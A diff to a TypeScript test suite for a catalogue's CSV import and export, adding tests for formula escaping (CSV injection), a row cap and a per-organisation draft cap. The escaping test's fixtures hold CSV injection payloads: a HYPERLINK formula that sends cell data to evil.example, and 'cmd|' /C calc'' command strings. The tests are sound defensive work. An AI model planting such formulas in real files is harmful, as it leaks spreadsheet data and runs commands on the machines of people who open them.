@@ -5,13 +5,19 @@ import { TestAdmin, TestMember, factories } from '../support/factories';
 import { expectStatus } from './support/catalog-kit';
 import { csvOf, goodRow } from './support/csv-files';
 
+const MAX_ROWS = 10;
+const MAX_DRAFTS = 12;
+
 describe.each(databaseLegs())('CSV import and export (%s)', (leg) => {
   let app: TestApp;
   let vendor: TestMember;
   let admin: TestAdmin;
 
   beforeAll(async () => {
-    app = await bootTestApp(leg);
+    app = await bootTestApp(leg, {
+      CSV_IMPORT_MAX_ROWS: String(MAX_ROWS),
+      CSV_IMPORT_MAX_DRAFTS_PER_ORGANIZATION: String(MAX_DRAFTS),
+    });
     const kit = await factories(app);
     vendor = await kit.newMember('vendor');
     admin = await kit.newAdmin();
@@ -182,5 +188,116 @@ describe.each(databaseLegs())('CSV import and export (%s)', (leg) => {
       [owner.organizationId],
     );
     expect(copy).toEqual(original);
+  });
+
+  it('escapes formula cells in the export (OWASP CSV injection), and the export imports back to the same text', async () => {
+    const owner = await (await factories(app)).newMember('vendor');
+    const hostile = {
+      title: '=HYPERLINK("http://evil.example/?leak="&A1,"Bag filter 50")',
+      summary: "@SUM(1+1)*cmd|' /C calc'!A0",
+      description: "+cmd|' /C calc'!A0 then a skid-mounted aramid bag filter.",
+      operating_cost_note: '-2+3 per operating hour',
+      // A text that really starts with a quote: written escaped, as the export writes it.
+      title_zh: "''=不是公式 50",
+    };
+    const tabbed = { title: "'quoted on purpose 51", description: '\tTabbed description of the filter.' };
+    expectStatus(await importCsv(csvOf([goodRow(50, hostile), goodRow(51, tabbed)]), owner.token), 200);
+    const exported = await app.request({
+      method: 'GET',
+      url: '/api/v1/technologies/export?mine=true',
+      token: owner.token,
+    });
+    expect(exported.status).toBe(200);
+    const records = parse(exported.text, { columns: true }) as Record<string, string>[];
+    const row50 = records.find((r) => r.title.includes('Bag filter 50'))!;
+    expect(row50).toMatchObject({
+      title: `'${hostile.title}`,
+      summary: `'${hostile.summary}`,
+      description: `'${hostile.description}`,
+      operating_cost_note: `'${hostile.operating_cost_note}`,
+      title_zh: hostile.title_zh,
+    });
+    const row51 = records.find((r) => r.title.includes('51'))!;
+    expect(row51.title).toBe(tabbed.title); // a quote before plain text is not an escape: left as it is
+    for (const record of records) {
+      for (const [column, cell] of Object.entries(record)) {
+        expect([column, /^[=+\-@\t\r]/.test(cell)]).toEqual([column, false]);
+      }
+    }
+    const titles = `SELECT title, summary, description, operating_cost_note, translations
+                      FROM technology WHERE vendor_organization_id = $1 ORDER BY created_at, title`;
+    const originals = await app.dataSource.query(titles, [owner.organizationId]);
+    expect(originals.map((r: { title: string }) => r.title).sort()).toEqual(
+      [tabbed.title, hostile.title].sort(),
+    );
+    const stored50 = originals.find((r: { title: string }) => r.title === hostile.title);
+    expect(stored50).toMatchObject({
+      summary: hostile.summary,
+      description: hostile.description,
+      operating_cost_note: hostile.operating_cost_note,
+    });
+    expect(stored50.translations[0].title).toBe("'=不是公式 50");
+    expect(expectStatus(await importCsv(exported.text, owner.token), 200).body).toMatchObject({
+      imported: 2,
+      rejected: 0,
+    });
+    const all = await app.dataSource.query(titles, [owner.organizationId]);
+    const key = (r: object) => JSON.stringify(r);
+    expect(all.slice(2).map(key).sort()).toEqual(originals.map(key).sort());
+  });
+
+  it('refuses a file over the row cap with 413, naming the rule and the limit, and imports nothing', async () => {
+    const owner = await (await factories(app)).newMember('vendor');
+    const rows = Array.from({ length: MAX_ROWS + 1 }, (_, i) => goodRow(60 + i, { trl: i === 0 ? 'x' : 8 }));
+    for (const response of [
+      await importCsv(csvOf(rows), owner.token),
+      await app.request({
+        method: 'POST',
+        url: '/api/v1/technologies/import',
+        token: owner.token,
+        body: { csv: csvOf(rows) },
+      }),
+    ]) {
+      expect(response.status).toBe(413);
+      expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
+      expect(response.body).toMatchObject({
+        status: 413,
+        limit: MAX_ROWS,
+        errors: [{ field: 'csv', rule: 'maxRows', message: expect.stringContaining(String(MAX_ROWS)) }],
+      });
+    }
+    expect(await countOf(owner.organizationId)).toBe(0);
+    expectStatus(await importCsv(csvOf(rows.slice(0, MAX_ROWS)), owner.token), 200);
+  });
+
+  it('refuses an import that would take an organisation over the draft cap with 422, and imports nothing', async () => {
+    const owner = await (await factories(app)).newMember('vendor');
+    const rows = (from: number, n: number) => Array.from({ length: n }, (_, i) => goodRow(from + i));
+    expect(expectStatus(await importCsv(csvOf(rows(80, 10)), owner.token), 200).body.imported).toBe(10);
+    // Rejected rows make no draft: 2 good rows and 1 bad one fit under the cap of 12.
+    const withBadRow = [...rows(90, 2), goodRow(92, { trl: 'high' })];
+    const tooMany = await importCsv(csvOf([...rows(100, 3)]), owner.token);
+    expect(tooMany.status).toBe(422);
+    expect(tooMany.headers['content-type']).toMatch(/^application\/problem\+json/);
+    expect(tooMany.body).toMatchObject({
+      status: 422,
+      limit: MAX_DRAFTS,
+      drafts: 10,
+      errors: [{ field: 'csv', rule: 'maxDraftsPerOrganization' }],
+    });
+    expect(await countOf(owner.organizationId)).toBe(10);
+    expect(expectStatus(await importCsv(csvOf(withBadRow), owner.token), 200).body).toMatchObject({
+      imported: 2,
+      rejected: 1,
+    });
+    expect(await countOf(owner.organizationId)).toBe(MAX_DRAFTS);
+    // Two files at once cannot both slip under the cap: imports into one organisation take turns.
+    const other = await (await factories(app)).newMember('vendor');
+    const racing = await Promise.all([
+      importCsv(csvOf(rows(110, 8)), other.token),
+      importCsv(csvOf(rows(120, 8)), other.token),
+    ]);
+    expect(racing.map((r) => r.status).sort()).toEqual([200, 422]);
+    expect(await countOf(other.organizationId)).toBe(8);
   });
 });
